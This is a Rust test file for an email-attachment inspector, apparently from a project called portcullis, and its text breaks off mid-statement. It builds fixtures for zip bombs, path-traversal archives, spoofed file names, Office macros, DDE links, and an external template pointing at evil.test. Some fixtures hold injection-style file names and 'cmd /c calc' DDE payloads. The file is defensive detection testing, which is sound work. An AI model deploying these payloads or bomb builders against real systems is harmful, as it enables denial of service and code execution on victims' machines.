//! The content, MIME and archive rows of THREATS.md, against the inspector, with fixtures built here
//! from real formats (zip written by the zip crate or by hand where a bomb needs it, tar by the tar
//! crate, OLE by the cfb crate, PE and ELF headers).

use inspect::{Input, Kind, Limits, Report, inspect};
use std::io::{Cursor, Write};
use std::time::{Duration, Instant};
use zip::write::SimpleFileOptions;

fn run(name: &str, data: &[u8]) -> Report {
    inspect(
        &Input { name: Some(name), declared_type: "application/octet-stream", data, truncated: false },
        &Limits::default(),
    )
}

fn kinds(r: &Report) -> Vec<Kind> {
    r.issues.iter().map(|i| i.kind).collect()
}

fn zip_of(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data) in members {
        w.start_file(*name, SimpleFileOptions::default()).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

fn pe() -> Vec<u8> {
    let mut d = vec![0u8; 1024];
    d[..2].copy_from_slice(b"MZ");
    d[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
    d[0x80..0x84].copy_from_slice(b"PE\0\0");
    d[0x84..0x86].copy_from_slice(&0x14cu16.to_le_bytes()); // i386
    d
}

#[test]
fn file_names_to_shell_are_data() {
    // Payloads aimed at a marker path of this run: were a name ever handed to a shell, the marker
    // would appear.
    let dir = tempfile::tempdir().unwrap();
    let marker = dir.path().join("pwned");
    let m = marker.display();
    let names = [
        format!("`touch {m}`.txt"),
        format!("$(touch {m}).doc"),
        format!(";touch {m};.pdf"),
        "a|b&c>d.txt".into(),
    ];
    let members: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), b"hello" as &[u8])).collect();
    let r = run("names.zip", &zip_of(&members));
    assert!(r.issues.is_empty(), "{:?}", r.issues);
    let files: Vec<&str> = r.files.iter().map(|f| f.file.as_str()).collect();
    for n in &names {
        assert!(files.contains(&format!("names.zip > {n}").as_str()), "{files:?}");
    }
    assert!(!marker.exists(), "a file name reached a shell");
}

#[test]
fn archive_traversal_is_listed_in_memory_only() {
    let zip = zip_of(&[("../../srv/x.jsp", b"<% x %>"), ("/etc/cron.d/x", b"* * * * * root id")]);
    let r = run("t.zip", &zip);
    assert_eq!(
        r.issues.iter().filter(|i| i.kind == Kind::ArchiveSuspiciousPath).count(),
        2,
        "{:?}",
        r.issues
    );
    // A tar with a symlink and then a file written "through" it.
    let mut b = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_gnu();
    h.set_entry_type(tar::EntryType::Symlink);
    h.set_size(0);
    b.append_link(&mut h, "link", "/etc").unwrap();
    let mut h = tar::Header::new_gnu();
    h.set_size(4);
    h.set_mode(0o644);
    b.append_data(&mut h, "link/passwd", &b"root"[..]).unwrap();
    let tar = b.into_inner().unwrap();
    let r = run("t.tar", &tar);
    assert!(
        r.issues.iter().any(|i| i.kind == Kind::ArchiveSuspiciousPath && i.detail.contains("/etc")),
        "{:?}",
        r.issues
    );
    assert!(r.files.iter().any(|f| f.file == "t.tar > link/passwd"));
    assert!(std::fs::read_to_string("/etc/passwd").is_ok_and(|p| p != "root"));
}

/// Deflate `chunk` zero bytes once with a full flush: repeating the block gives any length of zeros.
fn zero_block(chunk: usize) -> Vec<u8> {
    let mut c = flate2::Compress::new(flate2::Compression::best(), false);
    let input = vec![0u8; chunk];
    let mut out = Vec::with_capacity(chunk);
    c.compress_vec(&input, &mut out, flate2::FlushCompress::Full).unwrap();
    assert_eq!(c.total_in() as usize, chunk);
    out
}

/// CRC-32 of `n` zero bytes without reading them: the CRC register after zeros is a linear map,
/// applied by squaring (zlib's crc32_combine).
fn crc32_of_zeros(mut n: u64) -> u32 {
    fn times(mat: &[u32; 32], mut v: u32) -> u32 {
        let mut sum = 0;
        let mut i = 0;
        while v != 0 {
            if v & 1 != 0 {
                sum ^= mat[i];
            }
            v >>= 1;
            i += 1;
        }
        sum
    }
    fn square(mat: &[u32; 32]) -> [u32; 32] {
        std::array::from_fn(|i| times(mat, mat[i]))
    }
    // Operator for one zero bit, then squared to bytes.
    let mut odd = [0u32; 32];
    odd[0] = 0xedb8_8320;
    for (i, slot) in odd.iter_mut().enumerate().skip(1) {
        *slot = 1 << (i - 1);
    }
    let mut even = square(&odd); // 2 bits
    odd = square(&even); // 4 bits
    let mut crc = 0xffff_ffffu32;
    loop {
        even = square(&odd); // first pass: 8 bits = 1 byte
        if n & 1 != 0 {
            crc = times(&even, crc);
        }
        n >>= 1;
        if n == 0 {
            break;
        }
        odd = square(&even);
        if n & 1 != 0 {
            crc = times(&odd, crc);
        }
        n >>= 1;
        if n == 0 {
            break;
        }
    }
    !crc
}

/// A zip64 archive with one member `zeros.bin` that inflates to `size` zero bytes.
fn zip_of_zeros(size: u64) -> Vec<u8> {
    const CHUNK: usize = 1 << 20;
    assert_eq!(size % CHUNK as u64, 0);
    let block = zero_block(CHUNK);
    let mut data = Vec::new();
    for _ in 0..size / CHUNK as u64 {
        data.extend_from_slice(&block);
    }
    data.extend_from_slice(&[0x03, 0x00]); // final empty fixed-Huffman block
    let crc = crc32_of_zeros(size);
    let name = b"zeros.bin";
    let packed = data.len() as u64;
    let zip64 = |with_offset: bool| {
        let mut e = Vec::new();
        e.extend_from_slice(&1u16.to_le_bytes());
        e.extend_from_slice(&(if with_offset { 24u16 } else { 16 }).to_le_bytes());
        e.extend_from_slice(&size.to_le_bytes());
        e.extend_from_slice(&packed.to_le_bytes());
        if with_offset {
            e.extend_from_slice(&0u64.to_le_bytes());
        }
        e
    };
    let mut z = Vec::new();
    let local_extra = zip64(false);
    z.extend_from_slice(b"PK\x03\x04");
    for v in [45u16, 0, 8, 0, 0x21] {
        z.extend_from_slice(&v.to_le_bytes());
    }
    z.extend_from_slice(&crc.to_le_bytes());
    z.extend_from_slice(&u32::MAX.to_le_bytes());
    z.extend_from_slice(&u32::MAX.to_le_bytes());
    z.extend_from_slice(&(name.len() as u16).to_le_bytes());
    z.extend_from_slice(&(local_extra.len() as u16).to_le_bytes());
    z.extend_from_slice(name);
    z.extend_from_slice(&local_extra);
    z.extend_from_slice(&data);
    let cd_start = z.len() as u64;
    let cd_extra = zip64(true);
    z.extend_from_slice(b"PK\x01\x02");
    for v in [45u16, 45, 0, 8, 0, 0x21] {
        z.extend_from_slice(&v.to_le_bytes());
    }
    z.extend_from_slice(&crc.to_le_bytes());
    z.extend_from_slice(&u32::MAX.to_le_bytes());
    z.extend_from_slice(&u32::MAX.to_le_bytes());
    for v in [name.len() as u16, cd_extra.len() as u16, 0, 0, 0] {
        z.extend_from_slice(&v.to_le_bytes());
    }
    z.extend_from_slice(&0u32.to_le_bytes());
    z.extend_from_slice(&u32::MAX.to_le_bytes());
    z.extend_from_slice(name);
    z.extend_from_slice(&cd_extra);
    let cd_size = z.len() as u64 - cd_start;
    let eocd64 = z.len() as u64;
    z.extend_from_slice(b"PK\x06\x06");
    z.extend_from_slice(&44u64.to_le_bytes());
    z.extend_from_slice(&45u16.to_le_bytes());
    z.extend_from_slice(&45u16.to_le_bytes());
    z.extend_from_slice(&0u32.to_le_bytes());
    z.extend_from_slice(&0u32.to_le_bytes());
    z.extend_from_slice(&1u64.to_le_bytes());
    z.extend_from_slice(&1u64.to_le_bytes());
    z.extend_from_slice(&cd_size.to_le_bytes());
    z.extend_from_slice(&cd_start.to_le_bytes());
    z.extend_from_slice(b"PK\x06\x07");
    z.extend_from_slice(&0u32.to_le_bytes());
    z.extend_from_slice(&eocd64.to_le_bytes());
    z.extend_from_slice(&1u32.to_le_bytes());
    z.extend_from_slice(b"PK\x05\x06");
    for v in [0u16, 0, 0xffff, 0xffff] {
        z.extend_from_slice(&v.to_le_bytes());
    }
    z.extend_from_slice(&u32::MAX.to_le_bytes());
    z.extend_from_slice(&u32::MAX.to_le_bytes());
    z.extend_from_slice(&0u16.to_le_bytes());
    z
}

#[test]
fn the_zero_fixture_is_a_real_zip() {
    // 4 MiB of zeros built the same way reads back whole with the right CRC through the zip crate.
    let z = zip_of_zeros(4 << 20);
    let mut a = zip::ZipArchive::new(Cursor::new(&z[..])).unwrap();
    let mut f = a.by_index(0).unwrap();
    let mut out = Vec::new();
    std::io::Read::read_to_end(&mut f, &mut out).unwrap();
    assert_eq!(out.len(), 4 << 20);
    assert!(out.iter().all(|&b| b == 0));
}

#[test]
fn single_entry_expanding_to_10_gb_stops_at_limits() {
    let z = zip_of_zeros(10 << 30);
    assert!(z.len() < 16 << 20, "fixture is {} bytes", z.len());
    let started = Instant::now();
    let r = run("bomb.zip", &z);
    assert!(started.elapsed() < Limits::default().max_time + DEADLINE_SLACK, "{:?}", started.elapsed());
    assert!(r.has(Kind::ArchiveBomb) || r.has(Kind::ArchiveLimit), "{:?}", r.issues);
    assert!(r.unscannable());
}

/// How far past its own deadline (`Limits::max_time`) a bomb test may run before it counts as a
/// hang. The walk reads its clock between chunks of at most 256 KiB of output, so a healthy walk
/// overruns by one chunk's work: microseconds in a release build, but these tests run unoptimised
/// on machines that also build and benchmark, where a chunk (and building the fixture) has been
/// seen to take seconds. The bound is there to catch a walk that ignores its limits, not to time it.
const DEADLINE_SLACK: Duration = Duration::from_secs(60);

/// The issue of the limit that stopped a walk (a walk stops at the first limit it reaches).
fn stopped_by(r: &Report) -> &inspect::Issue {
    r.issues
        .iter()
        .rev()
        .find(|i| matches!(i.kind, Kind::ArchiveBomb | Kind::ArchiveLimit))
        .unwrap_or_else(|| panic!("no limit stopped the walk: {:?}", r.issues))
}

/// 42.zip's shape: 16 copies per level, four levels, 1 MiB of zeros at the bottom (65,536 leaves).
fn zip_42() -> Vec<u8> {
    let mut level = zip_of(&[("0.bin", &vec![0u8; 1 << 20])]);
    for depth in 0..4 {
        let name: Vec<String> = (0..16).map(|i| format!("lib{depth}_{i}.zip")).collect();
        let members: Vec<(&str, &[u8])> = name.iter().map(|n| (n.as_str(), &level[..])).collect();
        level = zip_of(&members);
    }
    level
}

#[test]
fn nested_zips_42_style_stop_at_depth_or_entries() {
    let bomb = zip_42();
    // With the default limits, the total bytes decompressed (200 MiB, about 200 leaves into the
    // walk) stop it; on a slow machine the deadline may come first. Either is a limit, and the
    // attachment is unscannable, never clean.
    let started = Instant::now();
    let r = run("42.zip", &bomb);
    let limits = Limits::default();
    assert!(started.elapsed() < limits.max_time + DEADLINE_SLACK, "{:?}", started.elapsed());
    assert!(r.unscannable());
    let stop = stopped_by(&r);
    assert!(
        stop.kind == Kind::ArchiveLimit
            && (stop.detail.contains("in total") || stop.detail.contains("took longer than")),
        "{stop:?}"
    );
    // Which limit stops it is exact when the deadline is out of the way: the total bytes, then
    // (with a total that does not bind) the number of members.
    let no_deadline = Limits { max_time: Duration::from_secs(3600), ..Limits::default() };
    let inspect_with = |limits: &Limits| {
        inspect(&Input { name: Some("42.zip"), declared_type: "", data: &bomb, truncated: false }, limits)
    };
    let r = inspect_with(&Limits { max_total_bytes: 8 << 20, ..no_deadline.clone() });
    let stop = stopped_by(&r);
    assert!(stop.kind == Kind::ArchiveLimit && stop.detail.contains("in total"), "{stop:?}");
    let r = inspect_with(&Limits { max_entries: 100, ..no_deadline.clone() });
    let stop = stopped_by(&r);
    assert!(stop.kind == Kind::ArchiveLimit && stop.detail.contains("more than 100"), "{stop:?}");
    // Nesting alone, small at every level, is stopped by depth.
    let mut nest = zip_of(&[("x.txt", b"hi")]);
    for i in 0..8 {
        nest = zip_of(&[(&format!("n{i}.zip"), &nest)]);
    }
    let r = run("nest.zip", &nest);
    assert!(
        r.issues.iter().any(|i| i.kind == Kind::ArchiveBomb && i.detail.contains("nested")),
        "{:?}",
        r.issues
    );
}

#[test]
fn overlapping_entries_are_a_bomb() {
    // Fifield-style: many central directory records pointing at one local file's data.
    let base = zip_of(&[("a.txt", &vec![b'a'; 5000])]);
    let cd = base.windows(4).position(|w| w == b"PK\x01\x02").unwrap();
    let eocd = base.windows(4).position(|w| w == b"PK\x05\x06").unwrap();
    let record = base[cd..eocd].to_vec();
    let mut z = base[..cd].to_vec();
    let copies = 50u16;
    for i in 0..copies {
        let mut r = record.clone();
        let name_at = 46;
        r[name_at] = b'a' + (i % 26) as u8;
        z.extend_from_slice(&r);
    }
    let cd_size = (z.len() - cd) as u32;
    z.extend_from_slice(b"PK\x05\x06\0\0\0\0");
    z.extend_from_slice(&copies.to_le_bytes());
    z.extend_from_slice(&copies.to_le_bytes());
    z.extend_from_slice(&cd_size.to_le_bytes());
    z.extend_from_slice(&(cd as u32).to_le_bytes());
    z.extend_from_slice(&0u16.to_le_bytes());
    let r = run("overlap.zip", &z);
    assert!(
        r.issues.iter().any(|i| i.kind == Kind::ArchiveBomb && i.detail.contains("overlap")),
        "{:?}",
        r.issues
    );
}

/// A one-member zip of `data`, deflated, with `padding` zero bytes between the member's data and
/// the central directory that the member's compressed size (local header and central directory
/// record) claims as its own: a header that lies about how much of the archive is compressed data.
fn zip_padded(data: &[u8], padding: usize) -> Vec<u8> {
    let z = zip_of(&[("zeros.bin", data)]);
    let cd = z.windows(4).position(|w| w == b"PK\x01\x02").unwrap();
    let eocd = z.windows(4).position(|w| w == b"PK\x05\x06").unwrap();
    let mut out = z[..cd].to_vec();
    out.resize(cd + padding, 0);
    out.extend_from_slice(&z[cd..]);
    let add = |out: &mut [u8], at: usize, by: usize| {
        let v = u32::from_le_bytes(out[at..at + 4].try_into().unwrap()) + u32::try_from(by).unwrap();
        out[at..at + 4].copy_from_slice(&v.to_le_bytes());
    };
    add(&mut out, 18, padding); // local header: compressed size
    add(&mut out, cd + padding + 20, padding); // central directory record: compressed size
    add(&mut out, eocd + padding + 16, padding); // end record: where the central directory starts
    out
}

#[test]
fn a_lying_compressed_size_does_not_lift_the_ratio_limit() {
    // 8 MiB of zeros deflates to about 8 KiB: past 100x, under every byte limit. Claiming 300 KB
    // of padding as compressed data would allow 30 MB at 100x; the ratio is taken from the bytes
    // the deflate stream really took.
    let zeros = vec![0u8; 8 << 20];
    for padding in [0, 300_000] {
        let z = zip_padded(&zeros, padding);
        let r = run("zeros.zip", &z);
        let stop = stopped_by(&r);
        assert!(stop.kind == Kind::ArchiveBomb && stop.detail.contains("expands more than 100x"), "{stop:?}");
        let from: u64 = stop.detail.rsplit("from ").next().unwrap().trim_end_matches(')').parse().unwrap();
        assert!(from < 100_000, "padding {padding}: {}", stop.detail);
        assert!(r.unscannable());
    }
    // Claiming more than the archive holds, up to and past the central directory, is refused as
    // members overlapping it.
    let mut z = zip_padded(&zeros, 0);
    let cd = z.windows(4).position(|w| w == b"PK\x01\x02").unwrap();
    for at in [18, cd + 20] {
        z[at..at + 4].copy_from_slice(&500_000_000u32.to_le_bytes());
    }
    let stop = stopped_by(&run("zeros.zip", &z)).clone();
    assert!(stop.kind == Kind::ArchiveBomb && stop.detail.contains("overlap"), "{stop:?}");
}

#[test]
fn entry_count_and_total_limits() {
    let names: Vec<String> = (0..1500).map(|i| format!("f{i}.txt")).collect();
    let members: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), b"x" as &[u8])).collect();
    let r = run("many.zip", &zip_of(&members));
    assert!(r.has(Kind::ArchiveLimit), "{:?}", r.issues);
    let limits = Limits { max_total_bytes: 100_000, ..Limits::default() };
    let big: Vec<u8> = (0..60_000u32).flat_map(|i| i.to_le_bytes()).collect();
    let z = zip_of(&[("a.bin", &big), ("b.bin", &big)]);
    let r = inspect(&Input { name: Some("t.zip"), declared_type: "", data: &z, truncated: false }, &limits);
    assert!(
        r.issues.iter().any(|i| i.kind == Kind::ArchiveLimit && i.detail.contains("total")),
        "{:?}",
        r.issues
    );
}

#[test]
fn encrypted_members_are_their_own_finding() {
    let mut z = zip_of(&[("secret.exe", &pe())]);
    // Set general purpose bit 0 (encrypted) in the local and central headers, as ZipCrypto does.
    for sig in [&b"PK\x03\x04"[..], b"PK\x01\x02"] {
        let at = z.windows(4).position(|w| w == sig).unwrap();
        let off = if sig == b"PK\x03\x04" { 6 } else { 8 };
        z[at + off] |= 1;
    }
    let r = run("protected.zip", &z);
    assert!(r.has(Kind::ArchiveEncrypted), "{:?}", r.issues);
    assert!(r.unscannable());
    let mut seven = vec![0u8; 128];
    seven[..6].copy_from_slice(b"7z\xbc\xaf\x27\x1c");
    seven[80..84].copy_from_slice(b"\x06\xf1\x07\x01");
    let r = run("p.7z", &seven);
    assert!(r.has(Kind::ArchiveEncrypted) && r.has(Kind::ArchiveUninspectable), "{:?}", r.issues);
}

#[test]
fn name_spoofing_uses_the_true_final_extension() {
    let r = run("inv\u{202e}fdp.exe", &pe());
    let k = kinds(&r);
    assert!(k.contains(&Kind::BidiName) && k.contains(&Kind::Executable), "{k:?}");
    assert_eq!(r.files[0].extension.as_deref(), Some("exe"));
    assert!(r.issues.iter().all(|i| !i.file.contains('\u{202e}')));
    let r = run("report.pdf...", b"%PDF-1.4\n");
    assert!(kinds(&r).contains(&Kind::DeceptiveName));
    let long = format!("a{}.txt", "b".repeat(5000));
    assert!(kinds(&run(&long, b"x")).contains(&Kind::DeceptiveName));
    let r = run("invoice.pdf\0.txt", &pe());
    assert!(kinds(&r).contains(&Kind::DeceptiveName));
    assert_eq!(r.files[0].extension.as_deref(), Some("pdf"));
    assert!(kinds(&r).contains(&Kind::TypeMismatch));
    assert!(kinds(&run("invoice.pdf.exe", &pe())).contains(&Kind::DoubleExtension));
}

#[test]
fn executables_scripts_and_disk_images_in_and_out_of_archives() {
    assert!(kinds(&run("scan.pdf", &pe())).contains(&Kind::TypeMismatch));
    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".to_vec();
    let z = zip_of(&[
        ("docs/readme.txt", b"hello"),
        ("docs/tool", &elf),
        ("run.bat", b"@echo off\r\nstart calc\r\n"),
    ]);
    let r = run("bundle.zip", &z);
    let k = kinds(&r);
    assert!(k.contains(&Kind::Executable) && k.contains(&Kind::Script), "{:?}", r.issues);
    assert!(r.issues.iter().any(|i| i.file == "bundle.zip > docs/tool"));
    let mut iso = vec![0u8; 0x9000];
    iso[0x8001..0x8006].copy_from_slice(b"CD001");
    let tgz = {
        let mut b = tar::Builder::new(Vec::new());
        let mut h = tar::Header::new_gnu();
        h.set_size(iso.len() as u64);
        h.set_mode(0o644);
        b.append_data(&mut h, "disk.iso", &iso[..]).unwrap();
        let tar = b.into_inner().unwrap();
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        gz.write_all(&tar).unwrap();
        gz.finish().unwrap()
    };
    let r = run("images.tgz", &tgz);
    assert!(
        r.issues.iter().any(|i| i.kind == Kind::DiskImage && i.file == "images.tgz > images.tar > disk.iso"),
        "{:?}",
        r.issues
    );
}

fn ole(streams: &[&str]) -> Vec<u8> {
    let mut c = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    for s in streams {
        if let Some((dir, _)) = s.rsplit_once('/') {
            c.create_storage_all(dir).unwrap();
        }
        let mut st = c.create_stream(s).unwrap();
        st.write_all(&[1u8; 100]).unwrap();
    }
    c.flush().unwrap();
    c.into_inner().into_inner()
}

#[test]
fn office_macros_and_external_templates() {
    let clean = ole(&["/WordDocument", "/1Table"]);
    assert!(run("letter.doc", &clean).issues.is_empty());
    let macro_doc = ole(&[
        "/WordDocument",
        "/Macros/PROJECT",
        "/Macros/VBA/dir",
        "/Macros/VBA/_VBA_PROJECT",
        "/Macros/VBA/Module1",
    ]);
    assert!(kinds(&run("invoice.doc", &macro_doc)).contains(&Kind::OfficeMacro));
    let encrypted = ole(&["/EncryptionInfo", "/EncryptedPackage"]);
    assert!(kinds(&run("secret.docx", &encrypted)).contains(&Kind::ArchiveEncrypted));
    let ct_plain = br#"<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;
    let docx = zip_of(&[("[Content_Types].xml", ct_plain), ("word/document.xml", b"<w:document/>")]);
    assert!(run("plain.docx", &docx).issues.is_empty(), "{:?}", run("plain.docx", &docx).issues);
    let ct_macro = br#"<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>"#;
    let docm = zip_of(&[
        ("[Content_Types].xml", ct_macro),
        ("word/document.xml", b"<w:document/>"),
        ("word/vbaProject.bin", &macro_doc),
    ]);
    let r = run("report.docm", &docm);
    assert!(
        r.issues.iter().any(|i| i.kind == Kind::OfficeMacro && i.file == "report.docm"),
        "{:?}",
        r.issues
    );
    // A directory placed two ways: an end record added behind the real one, which places the last
    // member alone (typed a plain zip, as the zip reader reads it: the macro is found in the member),
    // and one hidden in the real end record's comment (typed a plain zip, while the zip reader lists
    // every member: the package is opened as one by the names it lists).
    let mut behind = docm.clone();
    let last = memchr::memmem::rfind(&behind, b"PK\x01\x02").unwrap();
    behind.extend_from_slice(b"PK\x05\x06\0\0\0\0\x01\0\x01\0");
    behind.extend_from_slice(&u32::try_from(behind.len() - 12 - last).unwrap().to_le_bytes());
    behind.extend_from_slice(&u32::try_from(last).unwrap().to_le_bytes());
    behind.extend_from_slice(&[0; 2]);
    let mut commented = {
        let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
        for (name, data) in [("[Content_Types].xml", &ct_macro[..]), ("word/vbaProject.bin", &macro_doc)] {
            w.start_file(name, SimpleFileOptions::default()).unwrap();
            w.write_all(data).unwrap();
        }
        w.set_comment("PK\x05\x06\0\0\0\0\x01\0\x01\0\0\0\0\0\0\0\0\0\0\0").unwrap(); // size and offset set below
        w.finish().unwrap().into_inner()
    };
    let at = commented.len() - 22;
    let last = memchr::memmem::rfind(&commented, b"PK\x01\x02").unwrap();
    commented[at + 12..at + 16].copy_from_slice(&u32::try_from(at - last).unwrap().to_le_bytes());
    // An offset past where its size puts the directory: the zip reader passes this record over.
    commented[at + 16..at + 20].copy_from_slice(&u32::try_from(at).unwrap().to_le_bytes());
    for (name, decoy, file) in [
        ("behind.docm", behind, "behind.docm > word/vbaProject.bin"),
        ("comment.docm", commented, "comment.docm"),
    ] {
        assert_eq!(inspect::filetype::detect(&decoy), Some(inspect::FileType::Zip), "{name}");
        let r = run(name, &decoy);
        assert!(r.issues.iter().any(|i| i.kind == Kind::OfficeMacro && i.file == file), "{:?}", r.issues);
    }
    let rels = br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.test/t.dotm" TargetMode="External"/></Relationships>"#;
    let remote = zip_of(&[("[Content_Types].xml", ct_plain), ("word/_rels/settings.xml.rels", rels)]);
    let r = run("remote.docx", &remote);
    assert!(
        r.issues.iter().any(|i| i.kind == Kind::OfficeExternalTemplate && i.detail.contains("evil.test")),
        "{:?}",
        r.issues
    );
    let msi = {
        let mut c = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
        let clsid = "000C1084-0000-0000-C000-000000000046".parse().unwrap();
        c.set_storage_clsid("/", clsid).unwrap();
        c.create_stream("/x").unwrap().write_all(b"y").unwrap();
        c.flush().unwrap();
        c.into_inner().into_inner()
    };
    let r = run("update.doc", &msi);
    assert!(
        kinds(&r).contains(&Kind::Executable) && kinds(&r).contains(&Kind::TypeMismatch),
        "{:?}",
        r.issues
    );
}

/// A BIFF8 `Workbook` stream's globals: BOF, one BOUNDSHEET per `(state, type, name)`, EOF.
fn biff8_globals(sheets: &[(u8, u8, &str)]) -> Vec<u8> {
    let record = |kind: u16, body: &[u8]| {
        let mut r = kind.to_le_bytes().to_vec();
        r.extend((body.len() as u16).to_le_bytes());
        r.extend(body);
        r
    };
    let mut w = record(0x0809, &[0, 6, 5, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    for (state, dt, name) in sheets {
        let mut body = vec![0, 0, 0, 0, *state, *dt, name.len() as u8, 0];
        body.extend(name.as_bytes());
        w.extend(record(0x0085, &body));
    }
    w.extend(record(0x000a, &[]));
    w
}

fn workbook(globals: &[u8]) -> Vec<u8> {
    let mut c = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    c.create_stream("/Workbook").unwrap().write_all(globals).unwrap();
    c.flush().unwrap();
    c.into_inner().into_inner()
}

#[test]
fn excel_4_macros_and_dde() {
    let xls = workbook(&biff8_globals(&[(0, 0, "Sheet1"), (2, 1, "Auto_Macro")]));
    let r = run("invoice.xls", &xls);
    let xlm = r.issues.iter().find(|i| i.kind == Kind::OfficeXlmMacro).expect("XLM in the workbook");
    assert!(xlm.detail.contains("'Auto_Macro' (very hidden)"), "{}", xlm.detail);
    assert!(
        run("budget.xls", &workbook(&biff8_globals(&[(0, 0, "Sheet1"), (1, 2, "Chart")]))).issues.is_empty()
    );
    // A legacy workbook's DDE link (a SUPBOOK whose raw path is application, 0x03, topic) before its EOF.
    let mut globals = biff8_globals(&[(0, 0, "Sheet1")]);
    let eof = globals.split_off(globals.len() - 4);
    let path = b"cmd\x03/c calc.exe";
    globals.extend([0xae, 0x01, (5 + path.len()) as u8, 0, 0, 0, path.len() as u8, 0, 0]);
    globals.extend(path);
    globals.extend(eof);
    let r = run("rates.xls", &workbook(&globals));
    let dde = r.issues.iter().find(|i| i.kind == Kind::OfficeDde).expect("DDE link in the workbook");
    assert!(dde.detail.contains("cmd|/c calc.exe"), "{dde:?}");
    let ct = br#"<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/><Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>"#;
    let xlsm = zip_of(&[("[Content_Types].xml", ct), ("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>")]);
    assert!(kinds(&run("report.xlsm", &xlsm)).contains(&Kind::OfficeXlmMacro));
    // Named as Excel shows it, with its visibility, whichever order the zip holds the parts in.
    let workbook_xml = br#"<workbook xmlns:r="r"><sheets><sheet name="Data" sheetId="1" r:id="rId1"/><sheet name="Auto" sheetId="2" state="veryHidden" r:id="rId2"/></sheets></workbook>"#;
    let rels = br#"<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="x/xlMacrosheet" Target="/xl/macrosheets/sheet1.xml"/></Relationships>"#;
    let parts: [(&str, &[u8]); 4] = [
        ("[Content_Types].xml", ct),
        ("xl/workbook.xml", workbook_xml),
        ("xl/_rels/workbook.xml.rels", rels),
        ("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>"),
    ];
    for order in [[0, 1, 2, 3], [0, 3, 2, 1]] {
        let r = run("hidden.xlsm", &zip_of(&order.map(|i| parts[i])));
        let xlm: Vec<&str> =
            r.issues.iter().filter(|i| i.kind == Kind::OfficeXlmMacro).map(|i| i.detail.as_str()).collect();
        assert!(
            xlm.contains(&"Excel 4.0 macro sheet 'Auto' (very hidden) in xl/macrosheets/sheet1.xml"),
            "{xlm:?}"
        );
    }
    let renamed_ct =
        br#"<Types><Default Extension="bin" ContentType="application/vnd.ms-excel.intlmacrosheet"/></Types>"#;
    let xlsb = zip_of(&[("[Content_Types].xml", renamed_ct), ("xl/x/a.bin", b"\0")]);
    assert!(kinds(&run("report.xlsb", &xlsb)).contains(&Kind::OfficeXlmMacro));
    let ct_docx = br#"<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;
    let document = br#"<w:document xmlns:w="x"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>"#;
    let docx = zip_of(&[("[Content_Types].xml", ct_docx), ("word/document.xml", document)]);
    let r = run("order.docx", &docx);
    let dde = r.issues.iter().find(|i| i.kind == Kind::OfficeDde).expect("DDE in the document");
    assert!(dde.detail.contains("cmd.exe") && dde.file == "order.docx", "{dde:?}");
    let link = br#"<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>"#;
    let xlsx = zip_of(&[("[Content_Types].xml", ct_docx), ("xl/externalLinks/externalLink1.xml", link)]);
    assert!(kinds(&run("prices.xlsx", &xlsx)).contains(&Kind::OfficeDde));
    let rtf = br#"{\rtf1\ansi{\field{\*\fldinst DDEAUTO "C:\\Programs\\cmd.exe" "/c calc"}{\fldrslt}}}"#;
    assert!(kinds(&run("letter.rtf", rtf)).contains(&Kind::OfficeDde));
    assert!(
        run("plain.rtf", br"{\rtf1\ansi{\field{\*\fldinst PAGE}{\fldrslt 1}} DDEAUTO}").issues.is_empty()
    );
}

#[test]
fn parser_eval_spreadsheet_formats_are_never_evaluated() {
    let ct = br#"<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>"#;
    let styles = br#"<styleSheet><numFmts count="1"><numFmt numFmtId="164" formatCode="[$-x-sysdate]=cmd|' /C touch /tmp/portcullis-eval'!A0;@"/></numFmts></styleSheet>"#;
    let sheet = br#"<worksheet><sheetData><row r="1"><c r="A1"><f>=cmd|' /C touch /tmp/portcullis-eval'!A0</f></c></row></sheetData></worksheet>"#;
    let xlsx = zip_of(&[
        ("[Content_Types].xml", ct),
        ("xl/styles.xml", styles),
        ("xl/worksheets/sheet1.xml", sheet),
    ]);
    let r = run("budget.xlsx", &xlsx);
    assert!(r.issues.is_empty(), "{:?}", r.issues);
    assert!(!std::path::Path::new("/tmp/portcullis-eval").exists());
    // Garbage that looks like each format: reported, never a panic.
    for (name, head) in [
        ("a.zip", &b"PK\x03\x04garbage"[..]),
        ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1junk"),
